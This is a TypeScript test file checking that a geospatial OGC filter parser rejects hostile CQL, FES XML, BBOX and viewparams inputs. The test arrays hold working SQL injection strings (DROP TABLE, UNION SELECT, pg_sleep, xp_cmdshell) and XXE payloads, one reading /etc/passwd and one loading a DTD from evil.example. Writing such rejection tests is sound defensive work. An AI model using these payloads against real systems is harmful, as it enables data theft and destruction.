// DESIGN §6 "Security is part of the contract" and "attribute names allow-listed per feature
// type, values bound as SQL parameters, anything else a 400 with an OGC exception report":
// every input below must end in FilterError (InvalidParameterValue) and never yield SQL.
import { describe, expect, it } from 'vitest';
import {
  CQL_MAX_LENGTH,
  FES_MAX_BYTES,
  FilterError,
  cqlToSql,
  fesToSql,
  parseBbox,
  parseViewparams,
  type ViewParamsSpec,
} from '../../../src/server/ogc/filter/index.ts';
import { sqlOptions } from './fixtures.ts';

type Kind = 'CQL_FILTER' | 'FILTER' | 'BBOX' | 'viewparams';

const viewSpec = {
  code: { type: 'digits', minLength: 2, maxLength: 6, required: true },
  start: { type: 'year', required: false },
  end: { type: 'year', required: false },
  island: { type: 'text', maxLength: 100, required: false },
} as const satisfies ViewParamsSpec;

function run(kind: Kind, input: string): unknown {
  switch (kind) {
    case 'CQL_FILTER':
      return cqlToSql(input, sqlOptions);
    case 'FILTER':
      return fesToSql(input, sqlOptions);
    case 'BBOX':
      return parseBbox(input);
    case 'viewparams':
      return parseViewparams(input, viewSpec);
  }
}

const fes = (body: string) =>
  `<fes:Filter xmlns:fes="http://www.opengis.net/fes/2.0" xmlns:gml="http://www.opengis.net/gml/3.2">${body}</fes:Filter>`;
const eq = (prop: string, lit: string) =>
  fes(`<fes:PropertyIsEqualTo><fes:ValueReference>${prop}</fes:ValueReference><fes:Literal>${lit}</fes:Literal></fes:PropertyIsEqualTo>`);
const nested = (n: number, open: string, close: string, inner: string) => open.repeat(n) + inner + close.repeat(n);
const inList = (n: number) => `gid IN (${Array.from({ length: n }, (_, i) => i + 1).join(',')})`;

const cqlHostile: Array<[string, string]> = [
  ['stacked statement', '1=1; DROP TABLE x'],
  ['tautology with line comment', "prv_code = '90' OR 1=1 --"],
  ['tautology between two literals', "prv_code = '90' OR '1'='1'"],
  ['quote-break with a stray quote (unterminated)', "prv_code = '90'' OR '1'='1'"],
  ['literal = literal', '1 = 1'],
  ['unbalanced quote', "prv_code = '90"],
  ['unbalanced opening paren', "(prv_code = '90'"],
  ['unbalanced closing paren', "prv_code = '90')"],
  ['unterminated quoted identifier', `"prv_code = '90'`],
  ['exec(...) call', "exec('xp_cmdshell dir') = 1"],
  ['unknown attribute exec', "exec = '1'"],
  ['__proto__', "__proto__ = '1'"],
  ['quoted __proto__', `"__proto__" = '1'`],
  ['constructor', "constructor = '1'"],
  ['toString', "toString = '1'"],
  ['hasOwnProperty', "hasOwnProperty IS NULL"],
  ['pg_sleep on the left', 'pg_sleep(10) = 1'],
  ['pg_sleep on the right', 'gid = pg_sleep(10)'],
  ['pg_sleep inside IN', 'gid IN (1, pg_sleep(10))'],
  ['function call as a predicate', "lower(prv_code) = 'a'"],
  ['subselect in IN', 'prv_code IN (SELECT prv_code FROM users)'],
  ['subselect as a value', "prv_code = (SELECT password FROM users LIMIT 1)"],
  ['UNION SELECT', "prv_code = '90' UNION SELECT 1"],
  ['block comment', "prv_code = '90' /* x */"],
  ['comment hiding the rest', "prv_code = '90' --' AND gid = 1"],
  ['statement after a valid filter', "prv_code = '90'; SELECT pg_sleep(10)"],
  ['fullwidth equals sign U+FF1D', "prv_code ＝ '90'"],
  ['zero-width space U+200B', "prv_code\u200b= '90'"],
  ['no-break space U+00A0', "prv_code\u00a0= '90'"],
  ['right-to-left override U+202E', "prv_code = '90' \u202eOR 1=1"],
  ['Thai letters as a bare name', "จังหวัด = '90'"],
  ['NUL byte in a literal', "prv_code = '90\u0000'"],
  ['C1 control in a literal', "prv_code = '90\u0085'"],
  ['lone surrogate in a literal', "prv_code = '\ud800'"],
  ['quoted identifier carrying SQL', `"prv_code"" OR 1=1 --" = '90'`],
  ['quoted identifier with another case', `"Prv_Code" = '90'`],
  ['bare name with another case', "PRV_CODE = '90'"],
  ['schema-qualified name', "public.users = '1'"],
  ['overlong input', `prv_name = '${'x'.repeat(CQL_MAX_LENGTH)}'`],
  ['deep parentheses', nested(40, '(', ')', "prv_code = '90'")],
  ['deep NOT', `${'NOT '.repeat(40)}prv_code = '90'`],
  ['huge IN list', inList(501)],
  ['empty IN list', 'gid IN ()'],
  ['int column vs non-numeric string', "gid = 'abc'"],
  ['int column vs SQL in a string', "gid = '1 OR 1=1'"],
  ['int column vs decimal', 'gid = 1.5'],
  ['double column vs NaN', "epr > 'NaN'"],
  ['double column vs Infinity', "epr > 'Infinity'"],
  ['number overflowing to Infinity', 'epr > 1e999'],
  ['hex number', 'gid = 0x10'],
  ['number glued to a name', 'gid = 1abc'],
  ['bool column vs text', "active = 'maybe'"],
  ['date column vs garbage', "survey_date > 'yesterday'"],
  ['date column vs impossible date', "survey_date > '2024-13-45'"],
  ['string column vs boolean', 'prv_code = TRUE'],
  ['attribute vs attribute of other types', 'prv_code = gid'],
  ['attribute vs unknown attribute', 'prv_code = password'],
  ['geometry in a comparison', "geom = '90'"],
  ['= NULL instead of IS NULL', 'prv_code = NULL'],
  ['double equals', "prv_code == '90'"],
  ['!= operator', "prv_code != '90'"],
  ['string concatenation', "prv_code = '9' || '0'"],
  ['positional placeholder', 'prv_code = $1'],
  ['arithmetic', 'gid = 1 + 1'],
  ['dangling AND', "prv_code = '90' AND"],
  ['leading AND', "AND prv_code = '90'"],
  ['bare attribute', 'prv_code'],
  ['bare literal', "'90'"],
  ['empty input', ''],
  ['whitespace only', '   '],
  ['LIKE with an unpaired escape', "prv_name LIKE 'ab\\'"],
  ['LIKE with a non-string pattern', 'prv_name LIKE 5'],
  ['BBOX on a non-geometry attribute', 'BBOX(prv_code, 100, 6, 101, 7)'],
  ['BBOX on an unknown attribute', 'BBOX(the_geom, 100, 6, 101, 7)'],
  ['BBOX with min above max', 'BBOX(geom, 101, 6, 100, 7)'],
  ['BBOX lat/lon URN with lon/lat numbers', "BBOX(geom, 100, 6, 101, 7, 'urn:ogc:def:crs:EPSG::4326')"],
  ['BBOX with an unsupported CRS', "BBOX(geom, 100, 6, 101, 7, 'EPSG:32647')"],
  ['BBOX with a missing coordinate', 'BBOX(geom, 100, 6, 101)'],
  ['BBOX with a string coordinate', "BBOX(geom, '100', 6, 101, 7)"],
  ['INTERSECTS with a polygon', 'INTERSECTS(geom, POLYGON((0 0, 1 1, 1 0, 0 0)))'],
  ['unknown attribute deep in a tree', "prv_code = '90' AND (gid = 1 OR (epr > 2 AND missing = 3))"],
  ['semicolon inside a list', "gid IN (1; 2)"],
];

const fesHostile: Array<[string, string]> = [
  [
    'XXE external entity',
    `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${eq('prv_code', '&xxe;')}`,
  ],
  [
    'billion laughs',
    `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>${eq('prv_code', '&lol2;')}`,
  ],
  ['parameter entity', `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>${eq('prv_code', '90')}`],
  ['undeclared entity reference', eq('prv_code', '&xxe;')],
  ['lower-case doctype', `<!doctype x>${eq('prv_code', '90')}`],
  ['processing instruction', `<?xml-stylesheet href="http://evil.example/x.xsl"?>${eq('prv_code', '90')}`],
  ['document over 64 KB', eq('prv_name', 'x'.repeat(FES_MAX_BYTES))],
  ['unknown attribute', eq('password', '1')],
  ['SQL in ValueReference', eq('prv_code; DROP TABLE x', '1')],
  ['XPath in ValueReference', eq('users[1]/password', '1')],
  ['int column vs SQL literal', eq('gid', '1 OR 1=1')],
  ['Function pg_sleep', fes('<fes:PropertyIsEqualTo><fes:Function name="pg_sleep"><fes:Literal>10</fes:Literal></fes:Function><fes:Literal>1</fes:Literal></fes:PropertyIsEqualTo>')],
  ['unknown operator', fes('<fes:PropertyIsNaN><fes:ValueReference>prv_code</fes:ValueReference></fes:PropertyIsNaN>')],
  ['literal vs literal', fes('<fes:PropertyIsEqualTo><fes:Literal>1</fes:Literal><fes:Literal>1</fes:Literal></fes:PropertyIsEqualTo>')],
  ['root is not Filter', '<fes:And><fes:PropertyIsNull><fes:ValueReference>gid</fes:ValueReference></fes:PropertyIsNull></fes:And>'],
  ['unclosed element', '<fes:Filter><fes:PropertyIsNull><fes:ValueReference>gid</fes:ValueReference></fes:Filter>'],
  ['deep nesting', fes(nested(40, '<fes:Not>', '</fes:Not>', '<fes:PropertyIsNull><fes:ValueReference>gid</fes:ValueReference></fes:PropertyIsNull>'))],
  ['resource ids mixed with operators', fes('<fes:ResourceId rid="coastline.1"/><fes:PropertyIsNull><fes:ValueReference>gid</fes:ValueReference></fes:PropertyIsNull>')],
  ['resource id with SQL', fes('<fes:ResourceId rid="coastline.1 OR 1=1"/>')],
  ['geometry literal', eq('prv_code', '<gml:Point><gml:pos>1 2</gml:pos></gml:Point>')],
  ['BBOX with an unsupported srsName', fes('<fes:BBOX><fes:ValueReference>geom</fes:ValueReference><gml:Envelope srsName="EPSG:32647"><gml:lowerCorner>1 2</gml:lowerCorner><gml:upperCorner>3 4</gml:upperCorner></gml:Envelope></fes:BBOX>')],
  ['BBOX URN lat/lon given lon/lat', fes('<fes:BBOX><gml:Envelope srsName="urn:ogc:def:crs:EPSG::4326"><gml:lowerCorner>100 6</gml:lowerCorner><gml:upperCorner>101 7</gml:upperCorner></gml:Envelope></fes:BBOX>')],
  ['text outside Literal', fes('<fes:And>1=1<fes:PropertyIsNull><fes:ValueReference>gid</fes:ValueReference></fes:PropertyIsNull></fes:And>')],
  ['not XML at all', "prv_code = '90'"],
];

const otherHostile: Array<[Kind, string, string]> = [
  ['BBOX', 'three values', '100,6,101'],
  ['BBOX', 'SQL in a coordinate', '100,6,101,7 OR 1=1'],
  ['BBOX', 'NaN', 'NaN,6,101,7'],
  ['BBOX', 'unsupported CRS', '100,6,101,7,EPSG:32647'],
  ['viewparams', 'unknown key', 'code:90;sql:1'],
  ['viewparams', '__proto__ key', '__proto__:1;code:90'],
  ['viewparams', 'SQL in a digits value', "code:90' OR '1'='1"],
  ['viewparams', 'unescaped ; splitting an injected pair', 'code:90;start:2562) UNION SELECT 1 --'],
  ['viewparams', 'NUL in a text value', 'code:90;island:a\u0000b'],
];

describe('hostile CQL_FILTER inputs all throw FilterError and never produce SQL (DESIGN §6)', () => {
  it('has at least 40 CQL cases', () => expect(cqlHostile.length).toBeGreaterThanOrEqual(40));
  it.each(cqlHostile)('%s', (_name, input) => expectRejected('CQL_FILTER', input));
});

describe('hostile FES FILTER documents all throw FilterError (DESIGN §6 "spatial filters arrive as a FES 2.0 FILTER= document")', () => {
  it.each(fesHostile)('%s', (_name, input) => expectRejected('FILTER', input));
});

describe('hostile BBOX and viewparams values (DESIGN §6 "viewparams: typed per key, never substituted as text")', () => {
  it.each(otherHostile)('%s: %s', (kind, _name, input) => expectRejected(kind, input));
});

function expectRejected(kind: Kind, input: string): void {
  let result: unknown;
  let error: unknown;
  try {
    result = run(kind, input);
  } catch (e) {
    error = e;
  }
  expect(result).toBeUndefined();
  expect(error).toBeInstanceOf(FilterError);
  const fe = error as FilterError;
  expect(fe.code).toBe('InvalidParameterValue');
  expect(fe.locator).toBe(kind);
  expect(fe.message.startsWith(`${kind}: `)).toBe(true);
  expect(fe.message.length).toBeLessThan(400);
}
